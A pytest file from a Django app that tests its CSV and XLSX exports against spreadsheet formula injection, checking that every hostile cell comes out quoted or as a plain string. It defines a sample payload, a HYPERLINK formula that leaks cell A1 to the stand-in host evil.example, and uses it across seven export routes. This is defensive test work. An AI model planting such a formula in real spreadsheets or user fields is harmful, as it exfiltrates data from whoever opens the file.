"""Formula injection (issue 27.5): no CSV or XLSX export hands a spreadsheet a formula.

Every export route is walked with a hostile value where a person or a file can put text (a
preferred name, a group or training title, a region): in CSV the cell carries a leading
single quote, in XLSX it is a string cell, never a formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from django.urls import reverse

from attunement.associations.models import Association
from attunement.lib.exports import FORMULA_STARTS, escape_text, safe_cell, unescape_text
from attunement.workforce.tests.test_indicators import _csv, _rows

HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'


def test_text_that_a_spreadsheet_would_run_gets_a_quote_numbers_stay_numbers() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("Alex Rivera") == "Alex Rivera"
    assert safe_cell("'quoted already") == "'quoted already"
    assert safe_cell("") == ""
    # numbers that are numbers are written as numbers, even negative ones
    for number in (-3, Decimal("-2.5"), -0.5, 7, True):
        assert safe_cell(number) is number
    assert safe_cell(None) is None
    assert safe_cell(date(2026, 1, 2)) == date(2026, 1, 2)

    class Named:
        def __str__(self) -> str:
            return "@SUM(A1)"

    assert safe_cell(Named()) == "'@SUM(A1)"  # anything else is written as its text, neutralised


@pytest.mark.parametrize(
    "text", ["", "'", "''", "north", "=cmd", "'=cmd", "''=cmd", "-3", "'-3", "@x", "\tx", "'x", "x=1", "+"]
)
def test_the_reversible_form_round_trips_every_text(text: str) -> None:
    escaped = escape_text(text)
    assert not escaped.startswith(FORMULA_STARTS)
    assert unescape_text(escaped) == text


# --- Every export route ------------------------------------------------------------------------


def _endorsement_queue(ctx: dict[str, Any]) -> tuple[str, str, dict[str, str]]:
    from attunement.endorsement.models import Application, State
    from attunement.portfolios.models import Portfolio

    person = ctx["make_person"]("hostile@example.org", legal_name="Hostile Person", preferred_name=HOSTILE)
    portfolio = Portfolio.objects.create(person=person, association=ctx["riverbend"])
    Application.objects.create(portfolio=portfolio, association=ctx["riverbend"], category="IFA", state=State.SUBMITTED)
    return (
        "coordinator",
        reverse("endorsement_staff:queue", kwargs={"association_slug": "riverbend"}),
        {"format": "csv"},
    )


def _rsc_programme(ctx: dict[str, Any]) -> tuple[str, str, dict[str, str]]:
    from attunement.rsc.models import Programme
    from attunement.rsc.tests.fixtures import make_group, make_provider

    provider = ctx["make_person"]("provider@example.org", legal_name="P", preferred_name=HOSTILE)
    programme = Programme.objects.create(association=ctx["riverbend"], name="Home visiting")
    make_group(make_provider(provider, ctx["riverbend"]), programme=programme, name="+1 group", schedule="@weekly")
    url = reverse(
        "rsc_staff:programme_csv", kwargs={"association_slug": "riverbend", "programme_id": programme.public_id}
    )
    return "analyst", url, {}


def _training_transcript(ctx: dict[str, Any]) -> tuple[str, str, dict[str, str]]:
    from attunement.portfolios import actions as portfolio_actions
    from attunement.portfolios.models import Training

    applicant = ctx["personas"]["applicant"]
    portfolio = portfolio_actions.start_portfolio(actor=applicant, person=applicant, association=ctx["riverbend"])
    Training.objects.create(portfolio=portfolio, title=HOSTILE, date=date(2025, 1, 5), hours=Decimal(2))
    return "applicant", reverse("training_me:transcript_csv"), {}


def _workforce_indicators(export: str) -> Callable[[dict[str, Any]], tuple[str, str, dict[str, str]]]:
    def setup(ctx: dict[str, Any]) -> tuple[str, str, dict[str, str]]:
        from attunement.workforce.actions import import_checkins

        rows = _rows()
        for row in rows[:12]:
            row["region"] = HOSTILE
        import_checkins(ctx["riverbend"], _csv(rows), actor=None)
        url = reverse("workforce:indicators", kwargs={"association_slug": "riverbend"})
        return "analyst", url, {"year": "2019", "format": export}

    return setup


def _workforce_dashboard(export: str) -> Callable[[dict[str, Any]], tuple[str, str, dict[str, str]]]:
    def setup(ctx: dict[str, Any]) -> tuple[str, str, dict[str, str]]:
        from attunement.workforce.actions import refresh_workforce
        from attunement.workforce.tests.test_dashboards import _people

        _people(ctx["riverbend"], 12, region=HOSTILE)
        refresh_workforce(ctx["riverbend"])
        return "analyst", reverse("workforce:endorsed", kwargs={"association_slug": "riverbend"}), {"format": export}

    return setup


EXPORTS = {
    "endorsement applications csv": _endorsement_queue,
    "rsc programme csv": _rsc_programme,
    "training transcript csv": _training_transcript,
    "workforce indicators csv": _workforce_indicators("csv"),
    "workforce indicators xlsx": _workforce_indicators("xlsx"),
    "workforce dashboard csv": _workforce_dashboard("csv"),
    "workforce dashboard xlsx": _workforce_dashboard("xlsx"),
}


@pytest.mark.django_db
@pytest.mark.parametrize("export", EXPORTS)
def test_no_export_hands_a_spreadsheet_a_formula(
    export: str,
    personas: dict[str, Any],
    riverbend: Association,
    make_person: Any,
    client_for: Any,
) -> None:
    ctx = {"personas": personas, "riverbend": riverbend, "make_person": make_person}
    persona, url, query = EXPORTS[export](ctx)
    response = client_for(personas[persona]).get(url, query)
    assert response.status_code == 200
    if export.endswith("xlsx"):
        from openpyxl import load_workbook

        book = load_workbook(io.BytesIO(response.content))
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        hostile = [cell for cell in cells if cell.value == HOSTILE]
        assert hostile, "the hostile text is in the export"
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in hostile)
        assert not [cell.value for cell in cells if cell.data_type == "f"]
    else:
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8"))))
        values = [value for row in rows for value in row]
        assert "'" + HOSTILE in values, "the hostile text is in the export, neutralised"
        assert not [value for value in values if value.startswith(FORMULA_STARTS)]
